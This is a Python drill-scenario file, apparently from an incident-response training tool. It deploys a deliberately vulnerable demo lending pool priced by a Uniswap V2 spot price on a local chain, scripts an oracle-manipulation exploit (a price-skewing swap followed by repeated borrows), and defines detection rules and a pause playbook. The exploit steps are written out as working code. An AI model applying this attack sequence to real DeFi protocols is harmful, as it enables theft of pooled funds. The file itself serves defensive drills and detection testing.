"""``oracle-manipulation``: a lending pool priced by a Uniswap V2 pair's spot price.

Real bytecode: two OpenZeppelin ``ERC20PresetMinterPauser`` tokens (dUSD, dETH), a Uniswap
V2 factory and pair (``@uniswap/v2-core``), and :file:`DemoLendingPool.sol`, which values
dETH collateral at the pair's reserves. The attacker swaps 400,000 dUSD into the pair (a
flash-funded position), posts the dETH it holds at the inflated price and borrows the pool
dry, 100,000 dUSD per block. ``depeg`` on the pair's price (a preparation signal) and
``large-outflow`` of dUSD from the pool both pause the pool.
"""

from __future__ import annotations

from typing import Any

from eth_abi.abi import encode

from breakglass.contracts import compile_file
from breakglass.devchain import Anvil
from breakglass.drills.library import AttackStep, Deployment, DrillScenario
from breakglass.drills.scenarios.common import (
    OZ,
    UNI,
    UNIT,
    SetupChain,
    artifact,
    attacker_send,
    balance_of,
    bytecode,
    calldata,
    pausable,
    pause_playbook,
    paused,
)

__all__ = ["OracleManipulation"]

POOL_CASH = 500_000 * UNIT
PAIR_USD, PAIR_ETH = 200_000 * UNIT, 100 * UNIT  # 2,000 dUSD per dETH
SWAP_IN = 400_000 * UNIT
ATTACKER_ETH = 10 * UNIT
BORROW = 100_000 * UNIT
BORROWS = 5


def _amount_out(amount_in: int, reserve_in: int, reserve_out: int) -> int:
    """Uniswap V2's getAmountOut (0.3% fee)."""
    with_fee = amount_in * 997
    return with_fee * reserve_out // (reserve_in * 1000 + with_fee)


class OracleManipulation(DrillScenario):
    """Spot-price oracle skewed with a large swap, then the pool is borrowed dry."""

    name = "oracle-manipulation"
    title = "Price oracle manipulated through a Uniswap V2 pair"
    summary = (
        "DemoLendingPool values dETH at the dETH/dUSD pair's spot price. The attacker swaps "
        "400,000 dUSD into the pair, posts dETH at about nine times its price and borrows "
        "the pool's 500,000 dUSD over five blocks."
    )
    goals = (
        "the price jump on the pair is detected in the block of the swap, before any borrow",
        "the pool is paused before the attacker's collateral or first borrow lands",
        "the pool keeps its cash",
    )
    tabletop = {
        "discovery": ("A depeg alert: dETH trades at 18,000 dUSD on the pool's oracle pair.",),
        "gathering": ("The swap came from a contract deployed ten minutes ago.",),
        "analysis": ("The pool prices collateral at the pair's spot reserves, no TWAP.",),
        "action": ("Pausing the pool also stops honest repayments and liquidations.",),
        "reflection": ("Would a TWAP or a Chainlink feed have stopped it?",),
    }

    def deploy(self, anvil: Anvil) -> Deployment:
        chain = SetupChain(anvil)
        admin, guardian, attacker = (a.lower() for a in anvil.accounts[:3])
        token = bytecode(artifact(OZ.format("ERC20PresetMinterPauser")))
        usd = chain.deploy(admin, token, encode(["string", "string"], ["Drill USD", "dUSD"]))
        eth = chain.deploy(admin, token, encode(["string", "string"], ["Drill ETH", "dETH"]))
        factory = chain.deploy(
            admin, bytecode(artifact(UNI.format("UniswapV2Factory"))), encode(["address"], [admin])
        )
        chain.send(admin, calldata("createPair(address,address)", usd, eth), factory)
        word = chain.call(factory, calldata("getPair(address,address)", usd, eth))
        pair = "0x" + word[-40:].lower()
        for tok, amount in ((usd, PAIR_USD), (eth, PAIR_ETH)):
            chain.send(admin, calldata("mint(address,uint256)", pair, amount), tok)
        chain.send(admin, calldata("mint(address)", admin), pair)
        pool_code = compile_file("DemoLendingPool.sol", node_imports=True)["DemoLendingPool"]
        pool = chain.deploy(
            admin,
            pool_code.bytecode,
            encode(["address"] * 5, [usd, eth, pair, admin, guardian]),
        )
        chain.send(admin, calldata("mint(address,uint256)", admin, POOL_CASH), usd)
        chain.send(admin, calldata("approve(address,uint256)", pool, POOL_CASH), usd)
        chain.send(admin, calldata("supply(uint256)", POOL_CASH), pool)
        chain.send(admin, calldata("mint(address,uint256)", attacker, SWAP_IN), usd)
        chain.send(admin, calldata("mint(address,uint256)", attacker, ATTACKER_ETH), eth)
        chain.send(attacker, calldata("approve(address,uint256)", pool, 2**255), eth)
        return Deployment(
            addresses={"usd": usd, "eth": eth, "factory": factory, "pair": pair, "pool": pool},
            guardian=guardian,
            guardian_key=anvil.private_keys[1],
            attacker=attacker,
        )

    def plan_fragment(self, anvil: Anvil, deployment: Deployment) -> dict[str, Any]:
        a = deployment.addresses
        price = {"pair": a["pair"], "base": a["eth"], "quote": a["usd"]}
        return {
            "contracts": {
                "pool": pausable(a["pool"]),
                "pair": {"chain": "local", "address": a["pair"]},
                "usd": {"chain": "local", "address": a["usd"]},
            },
            "rules": [
                {
                    "id": "price-manipulated",
                    "rule": "depeg",
                    "contracts": ["pair"],
                    "severity": "critical",
                    "params": {"price": price, "peg": 2000, "max_deviation_percent": 25},
                },
                {
                    "id": "drain",
                    "rule": "large-outflow",
                    "contracts": ["pool"],
                    "severity": "critical",
                    "params": {"token": a["usd"], "threshold": 50_000},
                },
            ],
            "playbooks": [pause_playbook("pool", ["price-manipulated", "drain"])],
        }

    def attack(self, anvil: Anvil, deployment: Deployment) -> list[AttackStep]:
        a, attacker = deployment.addresses, deployment.attacker

        def skew(chain: Anvil) -> list[str]:
            word = chain.rpc("eth_call", [{"to": a["pair"], "data": calldata("getReserves()")}])
            r0, r1 = int(word[2:66], 16), int(word[66:130], 16)
            token0 = (
                "0x"
                + chain.rpc("eth_call", [{"to": a["pair"], "data": calldata("token0()")}])[-40:]
            )
            usd_first = token0.lower() == a["usd"]
            r_usd, r_eth = (r0, r1) if usd_first else (r1, r0)
            out = _amount_out(SWAP_IN, r_usd, r_eth)
            outs = (0, out) if usd_first else (out, 0)
            swap = calldata("swap(uint256,uint256,address,bytes)", *outs, attacker, b"")
            pay = calldata("transfer(address,uint256)", a["pair"], SWAP_IN)
            return [
                attacker_send(chain, attacker, a["usd"], pay, gas=200_000),
                attacker_send(chain, attacker, a["pair"], swap, gas=300_000),
            ]

        def post(chain: Anvil) -> list[str]:
            held = balance_of(chain, a["eth"], attacker)
            data = calldata("depositCollateral(uint256)", held)
            return [attacker_send(chain, attacker, a["pool"], data, gas=300_000)]

        def borrow(chain: Anvil) -> list[str]:
            data = calldata("borrow(uint256)", BORROW)
            return [attacker_send(chain, attacker, a["pool"], data, gas=300_000)]

        steps = [AttackStep("swap 400,000 dUSD into the oracle pair", skew, exploit=True)]
        steps.append(AttackStep("post dETH collateral at the skewed price", post))
        steps += [
            AttackStep(f"borrow 100,000 dUSD ({i + 1}/{BORROWS})", borrow) for i in range(BORROWS)
        ]
        return steps

    def value_at_risk(self, anvil: Anvil, deployment: Deployment) -> int | None:
        a = deployment.addresses
        return balance_of(anvil, a["usd"], a["pool"])

    def contained(self, anvil: Anvil, deployment: Deployment) -> bool:
        return paused(anvil, deployment.addresses["pool"])
